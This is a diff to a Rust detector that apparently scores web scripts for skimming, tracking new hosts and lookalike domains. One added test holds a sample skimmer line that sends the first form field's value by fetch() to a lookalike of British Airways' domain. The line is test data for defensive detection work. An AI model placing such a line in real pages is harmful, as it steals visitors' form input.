@@ -20,7 +20,6 @@
 use serde::Serialize;
 
 use super::diff::new_units;
-use super::normalize::UnitKind;
 use super::signals::{self, *};
 use super::{line_of, Analysis, Parsed};
 
@@ -63,6 +62,8 @@ pub struct Verdict {
     pub hosts: Vec<String>,
     /// Whether the file parsed (otherwise only lexical features were available).
     pub parsed: bool,
+    /// The non-zero feature values the score was computed from, by name.
+    pub features: std::collections::BTreeMap<&'static str, f64>,
 }
 
 /// The features of the scored code, before weighting.
@@ -192,6 +193,12 @@ pub fn classify(
         family: a.family.clone(),
         hosts: features.new_hosts.clone(),
         parsed: a.outcome.is_ok(),
+        features: FEATURE_NAMES
+            .iter()
+            .zip(x)
+            .filter(|(_, v)| *v != 0.0)
+            .map(|(k, v)| (*k, v))
+            .collect(),
     }
 }
 
@@ -237,7 +244,11 @@ fn feature_vector(f: &Features) -> [f64; N_FEATURES] {
 
 /// Computes the features of `a`, or of what it adds to `baseline`.
 pub fn features(a: &Analysis<'_>, baseline: Option<&Analysis<'_>>, ctx: Context<'_>) -> Features {
-    let site = ctx.site.map(registrable);
+    // A URL works as well as a host.
+    let site = ctx
+        .site
+        .map(|s| signals::url_host(s).unwrap_or_else(|| s.to_owned()))
+        .map(|h| registrable(&h));
     let baseline_hosts: Vec<String> = match baseline.map(|b| &b.outcome) {
         Some(Ok(p)) => p.hosts(),
         Some(Err(_)) => lexical_hosts(baseline.map_or("", |b| b.source)),
@@ -458,16 +469,6 @@ fn describe_bits(bits: Signals) -> String {
     parts.join(", ")
 }
 
-/// The names of the features, in weight order.
-pub fn feature_names() -> &'static [&'static str] {
-    &FEATURE_NAMES
-}
-
-/// Kinds counted in a unit list.
-pub fn count_kind(p: &Parsed, kind: UnitKind) -> usize {
-    p.norm.units.iter().filter(|u| u.kind == kind).count()
-}
-
 #[cfg(test)]
 mod tests {
     use super::super::analyse;
@@ -482,6 +483,15 @@ mod tests {
         assert!(!looks_alike("googleapis.com", "newegg.com"));
         assert_eq!(registrable("www.britishairways.com"), "britishairways.com");
         assert_eq!(registrable("shop.example.co.uk"), "example.co.uk");
+        let skim =
+            analyse("fetch('https://baways.com/x', {body: document.forms[0].elements[0].value});");
+        for site in [
+            "www.britishairways.com",
+            "https://www.britishairways.com/travel/",
+        ] {
+            let f = features(&skim, None, Context { site: Some(site) });
+            assert_eq!(f.lookalikes.len(), 1, "{site}: {f:?}");
+        }
     }
 
     #[test]
